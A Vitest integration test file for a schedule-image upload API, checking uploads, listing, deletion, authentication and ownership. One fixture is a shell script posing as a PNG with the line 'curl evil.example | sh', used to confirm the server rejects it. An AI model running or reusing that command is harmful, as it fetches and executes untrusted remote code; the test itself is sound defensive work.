import fs from 'node:fs/promises';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { MSG } from '#protocol/messages.ts';
import type { ScheduleImageItem } from '#protocol/shapes.ts';
import { STORED_NAME } from '../../storage/file-store.ts';
import { makeUser, type SignedInUser } from '../../test/factories.ts';
import { sql } from '../../test/outbox.ts';
import { startTestApp, type TestApp } from '../../test/test-app.ts';
import { listUploads, multipartForm, png, TINY_PNG, type FilePart } from '../../test/uploads.ts';

let app: TestApp;
beforeAll(async () => {
  app = await startTestApp();
});
afterAll(async () => {
  await app?.close();
});

type Part = FilePart;

/** The page's call: one multipart part in the field `schedule` (others when a test says so). */
const form = (parts: Part[], fields: Record<string, string> = {}): FormData => multipartForm('schedule', fields, parts);

// Untyped answer: a refusal's body is {message}, an upload's a ScheduleImageItem.
const upload = (crew: SignedInUser, ...parts: Part[]) => crew.client.post('/api/schedule-images', form(parts));
const rowsOf = (userId: number) => sql(app.databaseUrl, 'select filename from schedule_images where user_id = $1', [userId]);
/** Runs `call` and says which files it left under the upload folder (temp folders included). */
async function filesLeftBy<T>(call: () => Promise<T>): Promise<{ result: T; left: string[] }> {
  const before = new Set(await listUploads(app.uploadDir));
  const result = await call();
  return { result, left: (await listUploads(app.uploadDir)).filter((f) => !before.has(f)) };
}
const onDisk = (name: string) =>
  fs.access(path.join(app.uploadDir, name)).then(
    () => true,
    () => false,
  );

describe('POST /api/schedule-images', () => {
  it('stores one image and answers 201 with the ScheduleImageItem; the file is served from /uploads', async () => {
    const me = await makeUser(app);
    const res = await upload(me, png('March roster.png'));
    expect(res.status).toBe(201);
    expect(res.body).toEqual({
      id: expect.any(Number),
      filename: expect.stringMatching(STORED_NAME),
      originalName: 'March roster.png',
      mimeType: 'image/png',
      uploadedAt: expect.stringMatching(/^\d{4}-\d{2}-\d{2}T/),
    });
    const served = await me.client.get(`/uploads/${res.body.filename}`);
    expect(served.status).toBe(200);
    expect(served.headers.get('content-type')).toBe('image/png');
  });

  it('the type comes from the bytes, not the name: a PNG named .heic is stored as a PNG', async () => {
    const me = await makeUser(app);
    const res = await upload(me, { name: 'IMG_0001.heic', type: '', bytes: TINY_PNG });
    expect(res.status).toBe(201);
    expect(res.body.mimeType).toBe('image/png');
    expect(res.body.filename).toMatch(/\.png$/);
  });

  it('refuses a script named .png with the spec text, and stores nothing', async () => {
    const me = await makeUser(app);
    const script = { name: 'schedule.png', type: 'image/png', bytes: Buffer.from('#!/bin/sh\ncurl evil.example | sh\n') };
    const { result: res, left } = await filesLeftBy(() => upload(me, script));
    expect(res.status).toBe(400);
    expect(res.body.message).toBe(MSG.scheduleInvalidType);
    expect(await rowsOf(me.user.id)).toEqual([]);
    expect(left).toEqual([]);
  });

  it('refuses a part that is plainly not an image (text/plain, .txt) with the spec text', async () => {
    const me = await makeUser(app);
    const res = await upload(me, { name: 'notes.txt', type: 'text/plain', bytes: Buffer.from('hello') });
    expect(res.status).toBe(400);
    expect(res.body.message).toBe(MSG.scheduleInvalidType);
    expect(await rowsOf(me.user.id)).toEqual([]);
  });

  it('refuses two files in one call (one call per file) and stores neither', async () => {
    const me = await makeUser(app);
    const { result: res, left } = await filesLeftBy(() => upload(me, png('one.png'), png('two.png')));
    expect(res.status).toBe(400);
    expect(res.body.message).toBe(MSG.scheduleOneFile);
    expect(await rowsOf(me.user.id)).toEqual([]);
    expect(left).toEqual([]);
  });

  it('refuses more files than the parser takes at all with the same one-per-call text', async () => {
    const me = await makeUser(app);
    const res = await upload(me, ...Array.from({ length: 7 }, (_, i) => png(`p${i}.png`)));
    expect(res.status).toBe(400);
    expect(res.body.message).toBe(MSG.scheduleOneFile);
    expect(await rowsOf(me.user.id)).toEqual([]);
  });

  it.each([
    ['a JSON body', {}],
    ['a form with no file', form([], { note: 'hi' })],
  ])('answers %s with "choose an image"', async (_label, body) => {
    const me = await makeUser(app);
    const res = await me.client.post('/api/schedule-images', body);
    expect(res.status).toBe(400);
    expect(res.body.message).toBe(MSG.scheduleFileRequired);
  });

  it('refuses an image in another field', async () => {
    const me = await makeUser(app);
    const res = await upload(me, { ...png(), field: 'tripImages' });
    expect(res.status).toBe(400);
    expect(await rowsOf(me.user.id)).toEqual([]);
  });

  it('is 401 signed out, before the upload is read', async () => {
    const { result: res, left } = await filesLeftBy(() => app.client().post('/api/schedule-images', form([png()])));
    expect(res.status).toBe(401);
    expect(left).toEqual([]);
  });
});

describe('GET /api/schedule-images', () => {
  it("lists the caller's own images only, newest first", async () => {
    const me = await makeUser(app);
    const other = await makeUser(app);
    expect((await me.client.get('/api/schedule-images')).body).toEqual([]);
    const first = await upload(me, png('first.png'));
    const second = await upload(me, png('second.png'));
    await upload(other, png('theirs.png'));
    const res = await me.client.get<ScheduleImageItem[]>('/api/schedule-images');
    expect(res.status).toBe(200);
    expect(res.body).toEqual([second.body, first.body]);
  });

  it('is 401 signed out', async () => {
    expect((await app.client().get('/api/schedule-images')).status).toBe(401);
  });
});

describe('DELETE /api/schedule-images/{id}', () => {
  it('removes the own image, and its file after the commit', async () => {
    const me = await makeUser(app);
    const kept = await upload(me, png('kept.png'));
    const gone = await upload(me, png('gone.png'));
    expect(await onDisk(gone.body.filename)).toBe(true);
    const res = await me.client.delete(`/api/schedule-images/${gone.body.id}`);
    expect(res.status).toBe(200);
    expect((await me.client.get('/api/schedule-images')).body).toEqual([kept.body]);
    expect(await onDisk(gone.body.filename)).toBe(false);
    expect((await me.client.get(`/uploads/${gone.body.filename}`)).status).toBe(404);
    expect(await onDisk(kept.body.filename)).toBe(true);
    // Gone is gone: a second delete finds nothing.
    expect((await me.client.delete(`/api/schedule-images/${gone.body.id}`)).status).toBe(404);
  });

  it("is 404 for another user's image, which stays with its file", async () => {
    const owner = await makeUser(app);
    const mate = await makeUser(app);
    const image = await upload(owner, png());
    const res = await mate.client.delete(`/api/schedule-images/${image.body.id}`);
    expect(res.status).toBe(404);
    expect(res.body.message).toBe(MSG.scheduleImageNotFound);
    expect((await owner.client.get('/api/schedule-images')).body).toEqual([image.body]);
    expect(await onDisk(image.body.filename)).toBe(true);
  });

  it.each(['999999', 'abc', '0'])('is 404 for the id %s', async (id) => {
    const me = await makeUser(app);
    const res = await me.client.delete(`/api/schedule-images/${id}`);
    expect(res.status).toBe(404);
    expect(res.body.message).toBe(MSG.scheduleImageNotFound);
  });

  it('is 401 signed out', async () => {
    const me = await makeUser(app);
    const image = await upload(me, png());
    expect((await app.client().delete(`/api/schedule-images/${image.body.id}`)).status).toBe(401);
    expect(await onDisk(image.body.filename)).toBe(true);
  });
});
